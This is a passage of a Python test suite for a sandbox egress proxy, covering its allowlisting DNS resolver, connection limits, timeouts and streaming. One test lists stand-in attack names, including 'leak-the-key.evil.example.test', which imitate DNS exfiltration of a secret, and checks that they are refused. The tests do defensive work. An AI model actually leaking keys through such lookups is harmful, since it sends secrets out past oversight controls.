async def test_keep_alive_reuses_upstream_connections(world: World) -> None:
    urls = [f"https://api.example.test/k{i}" for i in range(5)]
    status, _, err = await world.curl(*auth(world), *urls)
    assert status == 200, err
    assert len(world.lab.hits_on("11.0.0.1")) == 5
    assert world.proxy.pool.reused >= 3


# -- the sandboxes' resolver -------------------------------------------------------------


async def ask(name: str, rdtype: str = "A", source: str = SANDBOX_IP) -> dns.message.Message | None:
    query = dns.message.make_query(name, rdtype)
    try:
        return await dns.asyncquery.udp(query, PROXY_IP, port=PORTS.dns, source=source, timeout=1.5)
    except dns.exception.Timeout:
        return None


async def test_the_resolver_answers_allowlisted_names_with_a_way_back_to_the_proxy(
    world: World,
) -> None:
    answer = await ask("API.example.test.")
    assert answer is not None and answer.rcode() == dns.rcode.NOERROR
    assert [r.address for r in answer.answer[0]] == ["192.0.2.1"]
    six = await ask("api.example.test", "AAAA")
    assert six is not None and six.rcode() == dns.rcode.NOERROR and not six.answer


@pytest.mark.parametrize(
    "name",
    ["evil.example.test", "leak-the-key.evil.example.test", "localhost", "1.0.0.127.in-addr.arpa"],
)
async def test_attack_other_names_get_nxdomain_and_are_never_forwarded(
    world: World, name: str
) -> None:
    answer = await ask(name)
    assert answer is not None and answer.rcode() == dns.rcode.NXDOMAIN and not answer.answer
    assert world.proxy.dns is not None and world.proxy.dns.refused >= 1


async def test_attack_an_unknown_source_gets_no_dns_answer(world: World) -> None:
    assert await ask("api.example.test", source=OTHER_SANDBOX_IP) is None


async def test_the_proxys_resolver_keeps_an_a_record_when_aaaa_is_nxdomain(world: World) -> None:
    # The lab's server answers NXDOMAIN to AAAA for names that only have an A record;
    # that negative answer must not hide the A record on the next lookup.
    resolver = DnsResolver(world.lab.dns)
    for _ in range(3):
        assert [str(a) for a in await resolver.lookup("api.example.test")] == ["11.0.0.1"]


# -- limits -----------------------------------------------------------------------------


async def test_an_instance_gets_a_bounded_number_of_connections(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(listeners, "MAX_CONNECTIONS_PER_INSTANCE", 2)
    held = [
        await asyncio.open_connection(PROXY_IP, PORTS.explicit, local_addr=(SANDBOX_IP, 0))
        for _ in range(2)
    ]
    await asyncio.sleep(0.1)
    answer = await raw(b"CONNECT api.example.test:443 HTTP/1.1\r\nHost: api.example.test\r\n\r\n")
    assert answer == b"", "the third connection is closed at once"
    for _reader, writer in held:
        writer.close()
    await asyncio.sleep(0.1)
    answer = await raw(b"CONNECT api.example.test:443 HTTP/1.1\r\nHost: api.example.test\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 200"), "slots come back when connections end"
    await world.proxy.audit.flush()
    assert any(r.reason == "too-many-connections" for r in world.audit_rows())


async def test_an_idle_connection_is_closed(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(http1, "IDLE_TIMEOUT_S", 0.5)
    reader, writer = await asyncio.open_connection(
        PROXY_IP, PORTS.explicit, local_addr=(SANDBOX_IP, 0)
    )
    async with asyncio.timeout(5):
        assert await reader.read() == b""  # closed by the proxy, not by us
    writer.close()


async def test_a_slow_upstream_gets_a_504_not_a_hang(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exchange, "RESPONSE_TIMEOUT_S", 0.5)
    status, body, _ = await world.curl("http://api.example.test/slow?s=3")
    assert status == 504 and json.loads(body)["reason"] == "upstream-timeout"


async def test_server_sent_events_are_handed_on_as_they_come(world: World) -> None:
    # Scrubbing is on for this instance: a small event must still not wait in a buffer.
    reader, writer = await asyncio.open_connection(PROXY_IP, PORTS.http, local_addr=(SANDBOX_IP, 0))
    writer.write(b"GET /sse HTTP/1.1\r\nHost: api.example.test\r\n\r\n")
    await writer.drain()
    got = b""
    async with asyncio.timeout(1.5):  # the second event only comes after 2 s
        while b"data: one" not in got:
            got += await reader.read(4096)
    assert b"data: two" not in got
    async with asyncio.timeout(5):
        while b"data: two" not in got:
            got += await reader.read(4096)
    writer.close()
